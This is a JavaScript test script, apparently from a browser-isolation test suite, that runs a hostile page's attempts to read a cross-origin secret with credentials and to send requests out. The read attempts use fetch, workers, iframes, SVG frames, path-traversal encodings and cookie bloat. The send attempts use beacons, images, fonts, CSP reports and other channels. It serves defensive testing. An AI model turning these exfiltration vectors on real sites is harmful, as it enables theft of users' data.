// What a hostile page tries, to read `target` or to have the browser send it a request. Run in the
// page itself, so that the page's policy holds for all of it. `own` is the hostile server's folder;
// its server answers what a URL's `say` holds (tests/cluster/hostile_server.py).
//
// target.page    a page whose text is the secret
// target.script  a script that sets window.stolen; .module: exports stolen; .style: sets --stolen
// target.image   a picture of target.imageWidth pixels
// target.events  an event stream; .socket: a websocket
// target.send    an address with {trick} in it
async ({ own, target, waitMs }) => {
  const say = (body, kind = 'text/html', { at = '', ...more } = {}) =>
    `${own}${at}?say=${encodeURIComponent(JSON.stringify({ body, kind, ...more }))}`;
  const reads = `fetch(${JSON.stringify(target.page)}, {credentials: 'include'}).then(r => r.text())`;
  const reportScript = (trick) =>
    `${reads}.then(text => parent.postMessage({trick: ${JSON.stringify(trick)}, text}, '*'))`;
  const html = (trick) => `<!doctype html><script>${reportScript(trick)}</script>`;
  const put = (element, properties) => document.body.appendChild(Object.assign(element, properties));
  const make = (name, properties) => put(document.createElement(name), properties);
  const once = (object, event) =>
    new Promise((resolve) => object.addEventListener(event, resolve, { once: true }));
  const textOf = (window) => window.document.documentElement.textContent;
  const until = async (get) => {
    for (;;) {
      try {
        const found = get();
        if (found) return found;
      } catch (error) {
        if (error.name === 'SecurityError') throw error;
      }
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  };

  const heard = (trick) =>
    new Promise((resolve) => {
      addEventListener('message', (event) => {
        if (event.data?.trick === trick) resolve(event.data.text);
      });
    });
  const framed = (trick, src) => {
    const text = heard(trick);
    make('iframe', { src });
    return text;
  };
  // a frame of this origin, whose own functions act under its own policy, if it has one
  const borrowed = async (src) => {
    const frame = make('iframe', {});
    const loaded = once(frame, 'load');
    frame.src = src;
    await loaded;
    const answer = await frame.contentWindow.fetch(target.page, { credentials: 'include' });
    return answer.text();
  };
  const climbed = (dots) => {
    const place = new URL(target.page, location.href);
    const depth = new URL(own).pathname.split('/').length - 2;
    return fetch(`${own}${dots.repeat(depth)}${place.pathname.slice(1)}${place.search}`, {
      credentials: 'include',
    }).then((answer) => answer.text());
  };
  const cookies = (value, age) => {
    for (let number = 0; number < 40; number += 1) {
      // biome-ignore lint/suspicious/noDocumentCookie: what a hostile page does
      document.cookie = `big${number}=${value};path=${new URL(own).pathname}large;max-age=${age}`;
    }
  };

  const reading = {
    fetch: () => fetch(target.page, { credentials: 'include' }).then((answer) => answer.text()),
    'fetch without CORS': () =>
      fetch(target.page, { mode: 'no-cors', credentials: 'include' }).then((a) => a.text()),
    'fetch of a redirect': () =>
      fetch(say('', 'text/plain', { status: 302, headers: [['Location', target.page]] }), {
        credentials: 'include',
      }).then((answer) => answer.text()),
    'where a redirect ends': () =>
      fetch(say('', 'text/plain', { status: 302, headers: [['Location', target.page]] }), {
        credentials: 'include',
      }).then((answer) => (answer.url === target.page ? target.secret : '')),
    XMLHttpRequest: async () => {
      const request = new XMLHttpRequest();
      request.open('GET', target.page);
      request.withCredentials = true;
      const loaded = once(request, 'loadend');
      request.send();
      await loaded;
      return request.responseText;
    },
    'event stream': async () =>
      (await once(new EventSource(target.events, { withCredentials: true }), 'message')).data,
    websocket: async () => (await once(new WebSocket(target.socket), 'message')).data,
    worker: async () =>
      (await once(new Worker(say(`${reads}.then(postMessage)`, 'text/javascript')), 'message')).data,
    'worker from a blob': async () => {
      const script = new Blob([`${reads}.then(postMessage)`], { type: 'text/javascript' });
      return (await once(new Worker(URL.createObjectURL(script)), 'message')).data;
    },
    'shared worker': async () => {
      const script = `onconnect = (event) => ${reads}.then((t) => event.ports[0].postMessage(t))`;
      const { port } = new SharedWorker(say(script, 'text/javascript'));
      port.start();
      return (await once(port, 'message')).data;
    },
    'service worker': async () => {
      const page = JSON.stringify(html('service worker'));
      const script = `
        addEventListener('install', () => skipWaiting());
        addEventListener('fetch', (event) => {
          if (event.request.url.includes('through-worker')) event.respondWith(
            new Response(${page}, {headers: {'Content-Type': 'text/html'}}));
        });`;
      const worker = await navigator.serviceWorker.register(say(script, 'text/javascript'), {
        scope: own,
      });
      await until(() => worker.active);
      return framed('service worker', `${own}through-worker`);
    },
    iframe: async () => {
      const frame = make('iframe', {});
      const loaded = once(frame, 'load');
      frame.src = target.page;
      await loaded;
      return textOf(frame.contentWindow);
    },
    object: async () => {
      const shown = document.createElement('object');
      const loaded = once(shown, 'load');
      Object.assign(shown, { type: 'text/html', data: target.page });
      put(shown, {});
      await loaded;
      return textOf(shown.contentWindow);
    },
    embed: async () => {
      const shown = document.createElement('embed');
      const loaded = once(shown, 'load');
      Object.assign(shown, { type: 'text/html', src: `${target.page}#embedded` });
      put(shown, {});
      await loaded;
      const all = Array.from({ length: window.length }, (_, index) => window[index]);
      return until(() => textOf(all.find((frame) => frame.location.hash === '#embedded')));
    },
    'frame without an address': () => {
      const { contentWindow } = make('iframe', {});
      return contentWindow.fetch(target.page, { credentials: 'include' }).then((a) => a.text());
    },
    'srcdoc frame': () => {
      const text = heard('srcdoc frame');
      make('iframe', { srcdoc: html('srcdoc frame') });
      return text;
    },
    'javascript frame': () =>
      framed('javascript frame', `javascript:${encodeURIComponent(reportScript('javascript frame'))}`),
    'frame from a blob': () =>
      framed(
        'frame from a blob',
        URL.createObjectURL(new Blob([html('frame from a blob')], { type: 'text/html' })),
      ),
    'frame of its own': () => framed('frame of its own', say(html('frame of its own'))),
    'frame with a policy of its own': () =>
      framed(
        'frame with a policy of its own',
        say(html('frame with a policy of its own'), 'text/html', {
          headers: [['Content-Security-Policy', "default-src * 'unsafe-inline'; connect-src *"]],
        }),
      ),
    'frame of an error': () =>
      framed('frame of an error', say(html('frame of an error'), 'text/html', { status: 500 })),
    'SVG frame': () =>
      framed(
        'SVG frame',
        say(
          `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${reportScript('SVG frame')}]]></script></svg>`,
          'image/svg+xml',
        ),
      ),
    'XML frame': () =>
      framed(
        'XML frame',
        say(
          `<html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[${reportScript('XML frame')}]]></script></html>`,
          'application/xml',
        ),
      ),
    'a page for a long address': () => borrowed(`${say('x')}&${'a'.repeat(70_000)}`),
    'a page for large cookies': () => {
      cookies('x'.repeat(3900), 60);
      return borrowed(say('x', 'text/html', { at: 'large' })).finally(() => cookies('', 0));
    },
    'a page for a character': () => borrowed(say('x', 'text/html', { at: '%00' })),
    'a page for dots': () => borrowed(say('x', 'text/html', { at: '..%2f' })),
    '..%2f': () => climbed('..%2f'),
    '..%2F': () => climbed('..%2F'),
    '%2e%2e%2f': () => climbed('%2e%2e%2f'),
    '.%2e%2f': () => climbed('.%2e%2f'),
    script: async () => {
      const script = document.createElement('script');
      const loaded = once(script, 'load');
      script.src = target.script;
      put(script, {});
      await loaded;
      return window.stolen;
    },
    module: async () => (await import(target.module)).stolen,
    'style sheet': async () => {
      const link = document.createElement('link');
      const loaded = once(link, 'load');
      Object.assign(link, { rel: 'stylesheet', href: target.style });
      put(link, {});
      await loaded;
      return getComputedStyle(document.documentElement).getPropertyValue('--stolen');
    },
    image: async () => {
      const image = new Image();
      const loaded = once(image, 'load');
      image.src = target.image;
      await loaded;
      return image.naturalWidth === target.imageWidth ? target.secret : '';
    },
    popup: async () => {
      const popup = window.open(target.page);
      return until(() => popup.location.href !== 'about:blank' && textOf(popup)).finally(() =>
        popup.close(),
      );
    },
    'named window': async () => {
      const popup = window.open(target.page, 'portal');
      return until(() => popup.location.href !== 'about:blank' && textOf(popup)).finally(() =>
        popup.close(),
      );
    },
    form: async () => {
      const frame = make('iframe', { name: 'answer' });
      const form = make('form', { method: 'post', action: target.page, target: 'answer' });
      const loaded = once(frame, 'load');
      form.submit();
      await loaded;
      return until(() => textOf(frame.contentWindow));
    },
  };

  const to = (trick) => target.send.replace('{trick}', encodeURIComponent(trick));
  const link = (rel, more) => (trick) => make('link', { rel, href: to(trick), ...more });
  const child = (body, more) => make('iframe', { src: say(body, 'text/html', more) });
  const kept = []; // a worker that nothing refers to may be collected before it begins
  window.kept = kept;
  const sending = {
    beacon: (trick) => navigator.sendBeacon(to(trick)),
    keepalive: (trick) =>
      fetch(to(trick), { method: 'POST', mode: 'no-cors', keepalive: true, credentials: 'include' }),
    picture: (trick) => make('img', { src: to(trick) }),
    'picture in SVG': (trick) => {
      const text = `<svg xmlns="http://www.w3.org/2000/svg"><image href="${to(trick)}"/></svg>`;
      make('div', { innerHTML: text });
    },
    'picture of a button': (trick) => make('input', { type: 'image', src: to(trick) }),
    'picture of a style': (trick) => {
      make('div', { textContent: 'x' }).style.backgroundImage = `url("${to(trick)}")`;
    },
    poster: (trick) => make('video', { poster: to(trick) }),
    video: (trick) => make('video', { src: to(trick), preload: 'auto' }),
    audio: (trick) => make('audio', { src: to(trick), preload: 'auto' }),
    font: (trick) => new FontFace('stolen', `url("${to(trick)}")`).load(),
    import: (trick) => make('style', { textContent: `@import url("${to(trick)}");` }),
    'classic script': (trick) => make('script', { src: to(trick) }),
    frame: (trick) => make('iframe', { src: to(trick) }),
    'object data': (trick) => make('object', { data: to(trick) }),
    'embed source': (trick) => make('embed', { src: to(trick) }),
    preload: link('preload', { as: 'fetch' }),
    prefetch: link('prefetch'),
    modulepreload: link('modulepreload'),
    ping: (trick) => make('a', { href: '#ping', ping: to(trick) }).click(),
    'form to a frame': (trick) => {
      make('iframe', { name: 'sent' });
      make('form', { method: 'post', action: to(trick), target: 'sent' }).submit();
    },
    'form by get': (trick) => {
      make('iframe', { name: 'got' });
      const form = make('form', { action: to(trick), target: 'got' });
      for (const [name, value] of new URL(to(trick)).searchParams) {
        form.append(Object.assign(document.createElement('input'), { name, value }));
      }
      form.submit();
    },
    'policy report': (trick) =>
      child('<img src="data:,">', {
        headers: [['Content-Security-Policy', `img-src 'none'; report-uri ${to(trick)}`]],
      }),
    'policy report without a policy': (trick) =>
      child('<img src="data:,">', {
        headers: [
          ['Content-Security-Policy-Report-Only', `img-src 'none'; report-uri ${to(trick)}`],
        ],
      }),
    refresh: (trick) => child(`<meta http-equiv="refresh" content="0;url=${to(trick)}">`),
    'refresh by a header': (trick) => child('x', { headers: [['Refresh', `0;url=${to(trick)}`]] }),
    'frame that leaves': (trick) =>
      child(`<script>location.href = ${JSON.stringify(to(trick))}</script>`),
    'frame of a redirect': (trick) => child('x', { status: 302, headers: [['Location', to(trick)]] }),
    'script of a worker': (trick) => {
      const script = `importScripts(${JSON.stringify(to(trick))})`;
      kept.push(new Worker(say(script, 'text/javascript')));
    },
    'preload by a header': (trick) =>
      child('x', { headers: [['Link', `<${to(trick)}>; rel=preload; as=script`]] }),
    'stream to nowhere': (trick) => {
      kept.push(new EventSource(to(trick), { withCredentials: true }));
    },
  };

  const attempt = async (act) => {
    const late = new Promise((resolve) => setTimeout(() => resolve('(nothing)'), waitMs));
    try {
      return String(await Promise.race([act(), late]));
    } catch (error) {
      return `(${error.name})`;
    }
  };
  const results = {};
  const all = { ...reading, ...sending };
  await Promise.all(
    Object.keys(all).map(async (trick) => {
      const text = await attempt(() => all[trick](trick));
      if (trick in reading) results[trick] = text.slice(0, 2000);
    }),
  );
  return { read: results, sent: Object.keys(sending) };
}
